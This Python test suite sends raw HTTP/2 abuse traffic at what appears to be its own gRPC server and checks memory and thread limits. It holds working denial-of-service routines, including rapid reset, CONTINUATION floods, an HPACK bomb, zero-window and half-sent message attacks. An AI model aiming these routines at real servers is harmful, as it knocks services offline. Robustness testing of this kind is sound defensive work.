"""What has hurt servers of HTTP/2: each method `abuse_...` of Abuses is one way, of raw sockets."""
import contextlib
import struct
import threading
import time

import http2_frames as h2

LIST = b"/passend.v1.TaxonomyService/ListTaxonomies"
CREATE = b"/passend.v1.PassportService/CreatePassport"
LIST_TASKS = b"/passend.v1.TaskService/ListTasks"
ALL_ON_ONE_PAGE = b"\x08\xe8\x07"  # page_size: 1000
REFLECT = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
CONNECTIONS = 40  # an edge takes 50 of a source
THREADS_MAX = 24  # reflection has 16
# 64 messages of 5 MiB, and what the allocator has beside them. 240 come.
HALF_SENT_KILOBYTES_MAX = 480 * 1024
# 256 MiB, likewise. 640 MB of answers are made.
UNREAD_KILOBYTES_MAX = 400 * 1024


class Line:
    """A connection that says what it likes, and does not mind being cut off."""

    def __init__(self, door):
        self.cut = False
        self.socket = door()

    def say(self, data):
        """False once the other side has cut the line."""
        if not self.cut:
            try:
                self.socket.sendall(data)
            except OSError:
                self.cut = True
        return not self.cut

    def hear(self, seconds=1.0):
        """All that comes within so long."""
        heard, deadline = b"", time.monotonic() + seconds
        while not self.cut and (left := deadline - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                part = self.socket.recv(65536)
            except TimeoutError:
                break
            except OSError:
                part = b""
            if not part:
                self.cut = True
            heard += part
        self.socket.settimeout(10)
        return heard

    def hear_until(self, wanted, seconds=20):
        """All that comes until one of the frames is wanted, or no more comes."""
        heard, deadline = b"", time.monotonic() + seconds
        while not self.cut and time.monotonic() < deadline:
            heard += self.hear(0.1)
            if any(wanted(kind, stream) for kind, stream in h2.frames_in(heard)):
                break
        return heard

    def close(self):
        self.socket.close()


class HalfSender(threading.Thread):
    """Sends as much of each message as it is let, but for the last byte, within some seconds."""

    def __init__(self, door, size, calls, method, seconds=5):
        super().__init__(daemon=True)
        self.line, self.size, self.calls, self.method = Line(door), size, calls, method
        self.deadline = time.monotonic() + seconds
        self.initial = self.window = 65_535
        self.windows, self.left = {}, {}

    def run(self):
        self.line.say(h2.hello())
        heard = b""
        for number in range(self.calls):
            stream = 2 * number + 1
            self.windows[stream], self.left[stream] = self.initial, self.size + 4
            self.line.say(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(self.method)))
            self.send(stream, struct.pack(">BI", 0, self.size))
        while not self.line.cut and time.monotonic() < self.deadline:
            heard = self.take_note(heard + self.line.hear(0.02))
            for stream in list(self.left):
                while (count := min(self.left[stream], self.windows[stream], self.window, 16_384)) > 0:
                    self.send(stream, bytes(count))

    def send(self, stream, data):
        self.line.say(h2.frame(h2.DATA, stream=stream, payload=data))
        self.window -= len(data)
        self.windows[stream] -= len(data)
        self.left[stream] -= len(data)

    def take_note(self, heard):
        """Of windows, settings and streams that are over; what is left is part of a frame."""
        while len(heard) >= 9 and len(heard) >= 9 + (length := int.from_bytes(heard[:3], "big")):
            kind, flags, stream = heard[3], heard[4], int.from_bytes(heard[5:9], "big") & 0x7fffffff
            payload, heard = heard[9:9 + length], heard[9 + length:]
            if kind == h2.WINDOW_UPDATE and stream == 0:
                self.window += int.from_bytes(payload, "big")
            elif kind == h2.WINDOW_UPDATE and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload, "big")
            elif kind == h2.RST_STREAM:
                self.windows.pop(stream, None)
                self.left.pop(stream, None)
            elif kind == h2.PING and not flags & h2.ACK:
                self.line.say(h2.frame(h2.PING, h2.ACK, payload=payload))
            elif kind == h2.SETTINGS and not flags & h2.ACK:
                self.take_settings(payload)
        return heard

    def take_settings(self, payload):
        for name, value in struct.iter_unpack(">HI", payload):
            if name == h2.INITIAL_WINDOW_SIZE:
                for stream in self.windows:
                    self.windows[stream] += value - self.initial
                self.initial = value
        self.line.say(h2.frame(h2.SETTINGS, h2.ACK))

    def close(self):
        self.line.close()


@contextlib.contextmanager
def line(door):
    opened = Line(door)
    try:
        yield opened
    finally:
        opened.close()


class Abuses:
    """`door` opens a connection; `choices` is random; `times`: how much of everything; `threads` and
    `kilobytes`: of the server, now."""

    def __init__(self, door, choices, times, threads, kilobytes):
        self.door, self.choices, self.times = door, choices, times
        self.threads, self.kilobytes = threads, kilobytes
        self.hold, self.held = False, []  # whether half-open ones are kept, and which

    def all(self):
        """Each with its name, in the order of the names."""
        return [(name.removeprefix("abuse_").replace("_", " "), getattr(self, name))
                for name in sorted(dir(self)) if name.startswith("abuse_")]

    def flood(self, opening, part, count):
        """Says `part(i)` again and again on one line, and listens only then."""
        with line(self.door) as one:
            one.say(opening)
            for start in range(0, count * self.times, 100):
                if not one.say(b"".join(part(i) for i in range(start, start + 100))):
                    return
            one.hear(0.5)

    def abuse_garbage(self):
        for size in [1, 8, 24, 100, 4096] * 8 * self.times:
            with line(self.door) as one:
                one.say(self.choices.randbytes(size))

    def abuse_other_protocols(self):
        for greeting in [b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", b"SSH-2.0-x\r\n",
                         b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(160),
                         b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", h2.PREFACE[:-1] + b"\r"]:
            with line(self.door) as one:
                one.say(greeting)
                one.hear(0.2)

    def abuse_frames_at_random(self):
        choices = self.choices
        for _ in range(60 * self.times):
            with line(self.door) as one:
                one.say(h2.hello())
                for _ in range(choices.randint(1, 20)):
                    payload = choices.randbytes(choices.choice([0, 4, 5, 6, 8, 9, 200]))
                    length = choices.choice([None] * 9 + [1 << 14, (1 << 24) - 1])
                    if not one.say(h2.frame(choices.randint(0, 12), choices.randint(0, 255),
                                            choices.choice([0, 1, 2, 3, 1 << 31, (1 << 32) - 1]),
                                            payload, length)):
                        break

    def abuse_frames_out_of_place(self):
        headers = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(LIST))
        for wrong in [
                h2.frame(h2.DATA, stream=0, payload=b"x"),
                h2.frame(h2.DATA, stream=7, payload=b"x"),
                h2.frame(h2.HEADERS, h2.END_HEADERS, 2, h2.call_headers(LIST)),
                h2.frame(h2.HEADERS, h2.END_HEADERS, 0, h2.call_headers(LIST)),
                headers + headers,
                headers + h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, b"\xff" * 200),
                h2.frame(h2.HEADERS, 0, 1, h2.call_headers(LIST)) + h2.frame(h2.PING, payload=bytes(8)),
                h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1, h2.call_headers(LIST)),
                headers + h2.frame(h2.WINDOW_UPDATE, stream=1, payload=struct.pack(">I", 0)),
                headers + h2.frame(h2.WINDOW_UPDATE, stream=1, payload=b"\x7f\xff\xff\xff") * 2,
                h2.frame(h2.WINDOW_UPDATE, payload=b"\x7f\xff\xff\xff") * 2,
                h2.frame(h2.PRIORITY, stream=1, payload=struct.pack(">IB", 1, 255)),
                h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, 1, struct.pack(">I", 2)),
                h2.frame(h2.SETTINGS, h2.ACK, payload=b"123456"),
                h2.frame(h2.SETTINGS, payload=b"12345"),
                h2.settings(initial_window_size=(1 << 32) - 1),
                h2.settings(max_frame_size=1),
                h2.frame(h2.GOAWAY, payload=struct.pack(">II", 1, 0)) + headers,
                h2.frame(h2.RST_STREAM, stream=99, payload=struct.pack(">I", h2.CANCEL)),
                h2.frame(h2.PING, payload=b"123"),
                headers + h2.frame(h2.DATA, h2.END_STREAM, 1, struct.pack(">BI", 1, 5) + b"12345"),
                headers + h2.frame(h2.DATA, h2.END_STREAM, 1, struct.pack(">BI", 0, 1 << 31)),
                headers + h2.frame(h2.DATA, h2.END_STREAM, 1, h2.message(b"\xff" * 50)),
        ] * self.times:
            with line(self.door) as one:
                one.say(h2.hello() + wrong)
                one.hear(0.05)

    def abuse_settings_flood(self):
        self.flood(h2.hello(), lambda i: h2.settings(initial_window_size=i), 30_000)

    def abuse_ping_flood(self):
        self.flood(h2.hello(), lambda i: h2.frame(h2.PING, payload=struct.pack(">Q", i)), 30_000)

    def abuse_empty_frames(self):
        start = h2.hello() + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(LIST))
        self.flood(start, lambda i: h2.frame(h2.DATA, stream=1), 30_000)

    def abuse_priorities(self):
        self.flood(h2.hello(), lambda i: h2.frame(h2.PRIORITY, stream=2 * i + 1,
                                                  payload=struct.pack(">IB", 2 * i + 3, 7)), 30_000)

    def abuse_rapid_reset(self):
        """CVE-2023-44487: calls that are taken back as soon as they are made."""
        reset = struct.pack(">I", h2.CANCEL)
        for _ in range(4):
            self.flood(h2.hello(), lambda i: h2.a_call(LIST, 2 * i + 1) + h2.frame(
                h2.RST_STREAM, stream=2 * i + 1, payload=reset), 3_000)

    def abuse_resets_made_by_the_server(self):
        """CVE-2025-8671: the caller's mistakes have the server take them back."""
        wrong = struct.pack(">I", 0)
        for _ in range(4):
            self.flood(h2.hello(), lambda i: h2.a_call(LIST, 2 * i + 1) + h2.frame(
                h2.WINDOW_UPDATE, stream=2 * i + 1, payload=wrong), 3_000)

    def abuse_continuations(self):
        """CVE-2024-27316 and others: headers that never end."""
        start = h2.hello() + h2.frame(h2.HEADERS, 0, 1, h2.call_headers(LIST))
        self.flood(start, lambda i: h2.frame(h2.CONTINUATION, 0, 1,
                                             h2.header(b"x-%d" % i, b"y" * 1_000)), 20_000)
        self.flood(start, lambda i: h2.frame(h2.CONTINUATION, 0, 1), 20_000)

    def abuse_large_headers(self):
        for value in [b"y" * 16_000, b"y" * 60_000, b"\x00" * 9_000]:
            block = h2.call_headers(LIST, (b"tracestate", value))
            frames = [block[i:i + 16_384] for i in range(0, len(block), 16_384)]
            said = h2.hello() + h2.frame(h2.HEADERS, h2.END_STREAM, 1, frames[0]) + b"".join(
                h2.frame(h2.CONTINUATION, 0, 1, part) for part in frames[1:]) + h2.frame(
                    h2.CONTINUATION, h2.END_HEADERS, 1)
            for _ in range(20 * self.times):
                with line(self.door) as one:
                    one.say(said)
                    one.hear(0.02)

    def abuse_headers_that_grow(self):
        """Some bytes each, for the largest header that the other side remembers: HPACK's bomb."""
        remember = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, h2.call_headers(LIST) +
                            h2.header(b"x-large", b"y" * 3_900, remembered=True))
        many = h2.call_headers(LIST) + h2.remembered_header(62) * 12_000
        for _ in range(10 * self.times):
            self.flood(h2.hello() + remember, lambda i: h2.frame(
                h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2 * i + 3, many), 100)

    def abuse_streams_without_end(self):
        """Calls that are begun, by somebody who has taken note of how many may be open, and by
        somebody who never does: that one is not held back, and ends with the line."""
        def begun(i):
            return h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1, h2.call_headers(LIST))
        self.flood(h2.hello(), begun, 5_000)
        with line(self.door) as one:
            one.say(h2.hello())
            one.hear(0.5)  # how many may be open: who takes note of it before it is said, does not
            one.say(h2.frame(h2.SETTINGS, h2.ACK))
            one.hear(0.2)
            one.say(b"".join(begun(i) for i in range(5_000)))
            heard = one.hear_until(lambda kind, _: kind == h2.RST_STREAM)
            refused = h2.RST_STREAM in [kind for kind, _ in h2.frames_in(heard)]
            if not one.cut and not refused:
                raise AssertionError("one connection has 5,000 calls open")

    def abuse_answers_that_nobody_takes(self):
        """Windows of no size: answers are made, and cannot be sent."""
        lines = [Line(self.door) for _ in range(10)]
        for one in lines:
            one.say(h2.hello(initial_window_size=0))
            for i in range(100 * self.times):
                if not one.say(h2.a_call(LIST, 2 * i + 1)):
                    break
        time.sleep(1)
        for one in lines:
            one.say(b"".join(h2.frame(h2.WINDOW_UPDATE, stream=1, payload=struct.pack(">I", 1))
                             for _ in range(50)))
            one.close()

    def abuse_large_answers_that_nobody_takes(self):
        """Pages of 2 MB. Through the edge these callers are strangers, and get none."""
        before = self.kilobytes()
        lines = [Line(self.door) for _ in range(4)]
        for one in lines:
            one.say(h2.hello(initial_window_size=0))
        for first in range(0, 80 * self.times, 2):  # few at a time: more would be turned away
            for one in lines:
                one.say(b"".join(h2.a_call(LIST_TASKS, 2 * i + 1, ALL_ON_ONE_PAGE)
                                 for i in (first, first + 1)))
            lines[0].hear(0.3)
        time.sleep(1)
        taken = self.kilobytes() - before
        print(f"  unread answers take {taken} kB", flush=True)
        for one in lines:
            one.close()
        if taken > UNREAD_KILOBYTES_MAX:
            raise AssertionError(f"answers that nobody takes took {taken} kB")

    def begin_on_lines(self, part, lines=10, calls=300):
        """So many calls on each of some lines; the lines stay open."""
        opened = [Line(self.door) for _ in range(lines)]
        for one in opened:
            one.say(h2.hello())
            one.hear(0.2)
            one.say(h2.frame(h2.SETTINGS, h2.ACK))
            for i in range(calls * self.times):
                if not one.say(part(2 * i + 1)):
                    break
        return opened

    def abuse_reflection_streams(self):
        """Each of them may have a thread of the server's."""
        before = self.threads()
        listing = h2.message(b"\x3a\x00")
        lines = self.begin_on_lines(lambda stream: h2.frame(
            h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(REFLECT)) + h2.frame(
                h2.DATA, stream=stream, payload=listing), lines=4)
        time.sleep(1)
        taken = self.threads() - before
        for one in lines:
            one.close()
        if taken > THREADS_MAX:
            raise AssertionError(f"streams of reflection took {taken} threads")

    def abuse_half_sent_messages(self):
        """4 MiB are said to come, and the last byte does not, of any."""
        self.send_halves(CREATE)

    def abuse_half_sent_health(self):
        self.send_halves(b"/grpc.health.v1.Health/Check")

    def send_halves(self, method):
        size = 4 << 20
        before = self.kilobytes()
        senders = [HalfSender(self.door, size, 60 * self.times, method) for _ in range(4)]
        for one in senders:
            one.start()
        for one in senders:
            one.join()
        taken = self.kilobytes() - before
        for one in senders:
            one.close()
        if taken > HALF_SENT_KILOBYTES_MAX:
            raise AssertionError(f"messages that never end took {taken} kB")

    def abuse_half_open(self):
        said = [b"", h2.PREFACE[:10], h2.PREFACE, h2.hello(), h2.hello() + b"\x00\x00"]
        lines = []
        with contextlib.suppress(OSError):  # the edge takes so many and no more
            for i in range(CONNECTIONS * self.times):
                lines.append(Line(self.door))
                lines[-1].say(said[i % len(said)])
        time.sleep(2)
        if self.hold:
            self.held = lines
        else:
            for one in lines:
                one.close()

    def abuse_bytes_at_a_time(self):
        """Slow, and right: it is answered."""
        with line(self.door) as one:
            for byte in h2.hello() + h2.a_call(LIST, 1):
                one.say(bytes([byte]))
                time.sleep(0.002)
            heard = one.hear_until(lambda kind, stream: kind == h2.HEADERS and stream == 1)
        if not any(kind == h2.HEADERS and stream == 1 for kind, stream in h2.frames_in(heard)):
            raise AssertionError("a call that comes a byte at a time is not answered")
